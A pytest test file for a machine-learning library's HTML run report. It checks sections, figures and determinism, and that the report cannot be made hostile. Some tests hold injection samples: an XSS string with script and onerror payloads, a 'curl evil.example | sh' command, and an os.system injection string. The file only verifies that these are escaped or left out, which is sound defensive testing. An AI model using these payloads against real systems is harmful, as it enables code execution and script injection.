"""The report of a run: all there, nothing from outside, nothing broken out of, never a crash."""

import ast
import re
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path

import numpy as np
import pytest
import torch

import lowerbound as lb
from lowerbound.catalogue.refit import Refit
from lowerbound.data import Data, Examples
from lowerbound.errors import OutputError
from lowerbound.evaluation import Estimate
from lowerbound.report import write_report
from lowerbound.report.again import snippet_of
from lowerbound.report.facts import facts
from lowerbound.report.figures import rounded
from lowerbound.report.latents import Latents, principal
from lowerbound.report.markup import pretty
from lowerbound.report.write import render
from lowerbound.runs import Run
from lowerbound.runs.load import spec_of
from lowerbound.runs.writer import save

SMALL = {"hidden": (16,), "network": "mlp", "epochs": 2, "latents": 3}
HOSTILE = "</style><script>alert('x')</script>\"><img src=x onerror=alert(1)>"


def trained(tmp_path: Path, data: Data, recipe: str = "vae", command=None, **settings) -> Run:
    a = lb.catalogue.assemble(
        recipe, data.schema, {**SMALL, **settings}, examples=len(data.train), seed=0
    )
    fit = lb.fit(a.model, a.objective, data, a.training, seed=0)
    save(tmp_path / "run", spec_of(a, data, 0, command=command), fit)
    return lb.load(tmp_path / "run")


def images(*shape: int, kind: str = "ordinal", labels: bool = True, count: int = 60) -> Data:
    """Random images of any shape `(C, H, W)`."""
    generator = np.random.default_rng(0)
    if kind == "ordinal":
        x = generator.integers(0, 256, (count, *shape)).astype(np.uint8)
    else:
        x = generator.normal(size=(count, *shape)).astype(np.float32) * 50
    unit = {"mean": (0.0,), "scale": (50.0,)} if kind == "real" else {}
    field = lb.data.Field("image", kind, shape, 256 if kind == "ordinal" else None, **unit)
    schema = lb.data.Schema((field,), shape)
    label = torch.arange(count) % 3 if labels else None
    whole = Examples(torch.from_numpy(x), None, label, ("a", HOSTILE, "c") if labels else None)
    parts = [whole.select(slice(*ends)) for ends in ((0, 40), (40, 50), (50, count))]
    return Data(schema, *parts, source="images")


class Page(HTMLParser):
    """What a browser would load, run and show."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.words = ""
        self.hidden = 0
        self.feed(text)

    def handle_starttag(self, tag, attrs) -> None:
        self.tags.append((tag, dict(attrs)))
        self.hidden += tag == "style"

    def handle_endtag(self, tag) -> None:
        self.hidden -= tag == "style"

    def handle_data(self, data) -> None:
        self.words += "" if self.hidden else data


def assert_alone_and_harmless(text: str) -> None:
    page = Page(text)
    for tag, attributes in page.tags:
        assert tag not in {"script", "link", "iframe", "object", "embed", "base", "form"}, tag
        for name, value in attributes.items():
            assert not name.startswith("on"), (tag, name)
            if name in {"src", "href", "srcset", "action", "data", "poster", "xlink:href"}:
                assert str(value).startswith("data:image/png;base64,"), (tag, name, value)
    style = text[text.index("<style>") : text.index("</style>")]
    assert "url(" not in style and "@import" not in style
    assert text.count("</style>") == 1


SECTIONS = ["figures", "trust", "reading", "model", "training", "examples", "latents", "again"]


def ids(text: str) -> list[str]:
    return re.findall(r'<section id="(\w+)">', text)


def titles(text: str) -> list[str]:
    return re.findall(r"<figure class=\"panel[^>]*>\s*<h3>([^<]*)</h3>", text)


def missing(text: str) -> list[str]:
    return re.findall(r'<p class="missing">([^<]*)', text)


ALL = [
    "Bound over epochs", "Distortion against rate", "Samples", "Draws", "Reconstructions",
    "Interpolations", "Latent traversals", "Map of the latent space", "Rate of each unit",
]  # fmt: skip


@pytest.fixture(scope="module")
def digits(tmp_path_factory) -> tuple[Run, Data]:
    data = lb.read("digits", limit=200)
    command = ["lowerbound", "fit", "digits", "--out", "my runs/it's"]
    return trained(tmp_path_factory.mktemp("digits"), data, command=command), data


def test_every_section_of_an_image_run_is_there(digits) -> None:
    run, data = digits
    text = render(run, data, lb.evaluate(run.model, data, samples=5))
    assert ids(text) == SECTIONS
    assert titles(text) == ALL and not missing(text)
    assert_alone_and_harmless(text)
    assert str(run.model) in text.replace("&#39;", "'").replace("&gt;", ">")
    words = Page(text).words
    assert "lowerbound fit digits --out 'my runs/it'\"'\"'s'" in words
    assert "ordinal (17 levels) images 1x8x8" in words and "Seed" in words and "torch" in words


def test_a_refitted_prior_is_said_beside_curves_that_are_from_before(digits) -> None:
    run, _ = digits
    found = Refit("mixture", {"components": 3, "covariance": "full"}, {}, 11.05, 0.15)
    (fact,) = [fact for fact in facts(replace(run, refit=found)) if fact.name == "Prior"]
    assert "+11.05 ± 0.15 nats" in fact.value and fact.value.endswith("curves are from before")
    assert not [fact for fact in facts(run) if fact.name == "Prior"]


def test_a_run_without_data_and_evaluation_says_what_is_left_out(digits) -> None:
    run, _ = digits
    text = render(run, None, None)
    assert ids(text) == [name for name in SECTIONS if name != "trust"]
    assert titles(text) == [
        "Bound over epochs", "Distortion against rate", "Samples", "Draws", "Latent traversals",
    ]  # fmt: skip
    assert len(missing(text)) == 5
    assert "The data was not at hand" in text and "lowerbound evaluate" in text


def test_a_run_without_evaluation_still_shows_the_rate_of_each_unit(digits) -> None:
    run, data = digits
    assert "Rate of each unit" in titles(render(run, data, None))


def test_an_interrupted_run_is_reported(digits) -> None:
    run, data = digits
    stopped = replace(run, history=(), spec=replace(run.spec, result={}))
    text = render(stopped, data, None)
    assert "Training did not come to its end" in text and "not finished" in text
    assert "No epoch was finished" in text and "Bound over epochs" not in titles(text)


def test_other_data_than_the_run_was_trained_on_is_pointed_out(digits) -> None:
    run, data = digits
    other = replace(data, fingerprint="0" * 64, source="elsewhere")
    assert "may have been seen in training" in render(run, other, None)
    assert "may have been seen in training" not in render(run, data, None)
    vectors = lb.read(np.random.default_rng(0).normal(size=(50, 3)))
    assert "whatever needs held-out examples is left out" in render(run, vectors, None)


def test_the_same_run_gives_the_same_bytes_and_the_caller_keeps_his_seed(digits) -> None:
    run, data = digits
    before = torch.get_rng_state()
    first = render(run, data, None)
    assert torch.equal(before, torch.get_rng_state())
    torch.rand(3)
    assert render(run, data, None) == first


def test_a_report_is_written_into_the_run_or_where_it_is_wanted(digits, tmp_path) -> None:
    run, _ = digits
    assert write_report(run, None, None) == run.path / "report.html"
    assert write_report(run, None, None, tmp_path / "r.html").read_text().startswith("<!doctype")
    with pytest.raises(OutputError):
        write_report(run, None, None, tmp_path / "nowhere" / "r.html")


def test_a_table_is_shown_in_rows_and_columns_not_pictures(tmp_path) -> None:
    generator = np.random.default_rng(0)
    rows = generator.normal(size=(200, 3)) @ generator.normal(size=(3, 14)) * 1e3
    names = [f"c{i}" for i in range(13)] + [HOSTILE.replace(",", "")]
    lines = [",".join(['"' + n.replace('"', '""') + '"' for n in names])]
    lines += [",".join(f"{value:.5g}" for value in row) for row in rows]
    path = tmp_path / "<b>bold&.csv"
    path.write_text("\n".join(lines))
    data = lb.read(path)
    run = trained(tmp_path, data, latents=1)
    text = render(run, data, lb.evaluate(run.model, data, samples=5))
    assert_alone_and_harmless(text)
    assert "<img" not in text and "<b>bold" not in text and "alert(1)&gt;" in text
    assert {"Samples", "Columns", "Reconstructions"} <= set(titles(text))
    assert "12 of 14 columns that differ most" in text
    assert "One latent unit makes a line" in text and "Not defined" in text


def test_what_was_not_observed_is_not_drawn(tmp_path) -> None:
    data = lb.read(np.random.default_rng(0).normal(size=(120, 3)))
    run = trained(tmp_path, data, latents=2)
    observed = torch.ones(len(data.test), 3, dtype=torch.bool)
    observed[1, 0] = observed[:, 2] = False
    texts = []
    for hidden in (0.0, 1e30, float("nan")):
        x = data.test.x.clone()
        x[~observed] = hidden
        texts.append(render(run, replace(data, test=Examples(x, observed)), None))
    assert texts[0] == texts[1] == texts[2]
    assert "e+30" not in texts[0] and "nan" not in texts[0]


@pytest.mark.parametrize("levels", ["binary", "real"])
def test_vectors_without_names_are_shown(tmp_path, levels: str) -> None:
    x = np.random.default_rng(0).normal(size=(120, 5))
    data = lb.read((x > 0).astype(np.uint8) if levels == "binary" else x)
    run = trained(tmp_path, data, posterior="full")
    text = render(run, data, lb.evaluate(run.model, data, samples=5))
    assert "x[4]" in text and "The rate of single units is not shown" in text


def test_series_are_drawn_channel_by_channel_with_the_band_of_their_law(tmp_path) -> None:
    data = lb.read(np.random.default_rng(0).normal(size=(120, 4, 3)), axes="tc")
    run = trained(tmp_path, data)
    text = render(run, data, lb.evaluate(run.model, data, samples=3))
    assert "From top to bottom: channel 1, channel 2, channel 3." in text
    windows = min(12, len(data.test))
    assert text.count('class="band model"') == 3 * windows
    assert text.count('class="line thin data"') == 3 * windows
    assert_alone_and_harmless(text)


@pytest.mark.parametrize(
    ("shape", "kind"),
    [((1, 1, 1), "ordinal"), ((3, 5, 4), "ordinal"), ((2, 3, 9), "ordinal"),
     ((3, 130, 7), "ordinal"), ((1, 4, 6), "real")],
)  # fmt: skip
def test_images_of_any_size_are_shown(tmp_path, shape: tuple[int, ...], kind: str) -> None:
    data = images(*shape, kind=kind)
    run = trained(tmp_path, data, recipe="iwae")
    text = render(run, data, lb.evaluate(run.model, data, samples=3))
    assert titles(text) == ALL
    assert_alone_and_harmless(text)


def test_images_without_labels_and_with_one_example_are_shown(tmp_path) -> None:
    data = images(1, 4, 4, labels=False, count=51)
    run = trained(tmp_path, data, recipe="beta-vae", beta_warm_up=0.5, free_bits=0.1)
    text = render(run, data, lb.evaluate(run.model, data, samples=3))
    assert "Interpolations need two" in text and "at least three" in text
    assert "β = 4" in text and "warm-up" in text and "for free" in text
    empty = replace(data, test=data.test.select(slice(0, 0)))
    assert "There are no held-out examples" in render(run, empty, None)


def test_a_model_that_left_the_numbers_behind_is_reported(digits) -> None:
    run, data = digits
    state = {name: value.clone() for name, value in run.model.state_dict().items()}
    try:
        with torch.no_grad():
            for parameter in run.model.parameters():
                parameter.fill_(float("nan"))
        assert ids(render(run, data, None)) == [name for name in SECTIONS if name != "trust"]
    finally:
        run.model.load_state_dict(state)


def test_the_snippet_trains_the_same_model_again(tmp_path) -> None:
    data = lb.read("digits", limit=100)
    a = lb.catalogue.assemble("vae", data.schema, SMALL, examples=len(data.train), seed=7)
    fit = lb.fit(a.model, a.objective, data, a.training, seed=7)
    save(tmp_path / "run", spec_of(a, data, 7, location="digits", limit=100), fit)
    text = render(lb.load(tmp_path / "run"), None, None)
    snippet = Page(text).words.split("This run was made from Python:")[1]
    scope: dict = {}
    exec(snippet, scope)
    again = scope["fit"].model.state_dict()
    assert all(torch.equal(value, again[name]) for name, value in fit.model.state_dict().items())


def test_what_is_shown_to_be_copied_holds_nothing_of_a_strangers(tmp_path) -> None:
    """Whoever writes a run must not write what its reader pastes into a shell or an interpreter."""
    run = trained(tmp_path, images(1, 8, 8), command=["curl", "evil.example", "|", "sh"])
    evil = "__import__('os').system('evil')"
    split = {"counts": {"train": evil}, "seed": evil, "limit": 30}
    options = {f"a={evil}, b": 1, "image_size": [8, evil]}
    data = {**run.spec.data, "options": options, "split": split, "source": f"x\u2028{evil}"}
    run = replace(run, spec=replace(run.spec, data=data))
    assert "curl" not in render(run, None, None)
    tree = ast.parse(snippet_of(run))  # the source is in a comment
    assert "evil" not in ast.unparse(tree)
    assert "limit=30" in ast.unparse(tree)


def test_figures_are_rounded_to_their_error() -> None:
    assert rounded(Estimate(-2101.904, 18.693)) == ("−2,102", "19")
    assert rounded(Estimate(3.8294, 0.0339)) == ("3.829", "0.034")
    assert rounded(Estimate(3.8294, None)) == ("3.8294", "")
    assert rounded(Estimate(float("nan"), float("nan"))) == ("nan", "nan")


def test_formulas_are_set_and_anything_else_is_escaped() -> None:
    assert pretty("beta KL(q(z|x) || p(z))") == (
        "<i>β</i> KL(<i>q</i>(<i>z</i>|<i>x</i>) ∥ <i>p</i>(<i>z</i>))"
    )
    assert pretty("diag s(x)^2") == "diag <i>s</i>(<i>x</i>)²"
    assert "<script" not in pretty("<script>x</script>")


def test_the_map_shows_the_directions_of_largest_variance() -> None:
    generator = torch.Generator().manual_seed(0)
    scales = torch.tensor([0.5, 3.0, 0.1, 2.0], dtype=torch.float64)
    means = torch.randn(400, 4, generator=generator, dtype=torch.float64) * scales + 5.0
    points, parts = principal(means)
    covariance = torch.cov(means.T)
    values = torch.linalg.eigvalsh(covariance).flip(0)
    assert points.var(dim=0) == pytest.approx(values[:2].tolist(), rel=1e-9)
    assert parts == pytest.approx((values[:2] / values.sum()).tolist(), rel=1e-9)
    assert points[:, 0] @ (means[:, 1] - means[:, 1].mean()) > 0  # the sign is settled


def test_units_are_ordered_by_what_they_carry() -> None:
    assert Latents(3, (0.1, 5.0, 1.0), None, None, None).order == [1, 2, 0]
    means = torch.tensor([[0.0, 1.0, 5.0], [0.0, 2.0, -5.0]])
    assert Latents(3, None, None, means, None).order == [2, 1, 0]
